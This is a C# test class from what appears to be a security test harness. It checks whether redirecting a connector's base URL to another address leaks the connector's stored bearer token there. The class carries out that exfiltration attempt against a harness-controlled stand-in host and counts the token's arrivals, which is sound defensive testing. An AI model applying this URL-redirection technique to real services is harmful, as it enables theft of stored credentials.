namespace Workflows.Attack.Attacks;

/// <summary>
/// The secret of a connector, sent to another address by whoever may change the connector but not read it.
/// </summary>
internal sealed class StolenConnector : IAttack
{
    private const string Token = "the-token-of-the-connector";

    public string Name => "stolen-connector";

    public string Promise => "a connector whose address changes does not take its secrets there";

    public async Task<Verdict> RunAsync(Stage stage, CancellationToken cancellationToken)
    {
        var created = await stage.A.PostAsync("/api/v1/connectors", new
        {
            name = "partner",
            type = "http",
            config = new { baseUrl = $"{stage.Target.Address}/partner", auth = "bearer", token = Token },
        }, cancellationToken);
        var path = $"/api/v1/connectors/{created.GetProperty("id").GetGuid()}";
        string answer;
        try
        {
            await stage.A.SendAsync(
                HttpMethod.Patch, path, new { config = new { baseUrl = stage.Other.Address } }, cancellationToken);
            await stage.A.PostAsync($"{path}/test", new { }, cancellationToken);
            answer = "the change was taken";
        }
        catch (RefusedException refused)
        {
            answer = $"the change or its test was {refused.Message}";
        }

        var stolen = stage.Other.Arrivals.Count(
            arrival => arrival.Authorization?.Contains(Token, StringComparison.Ordinal) == true);
        return new Verdict(stolen == 0, $"{answer}; the token arrived {stolen} times at the other address");
    }
}
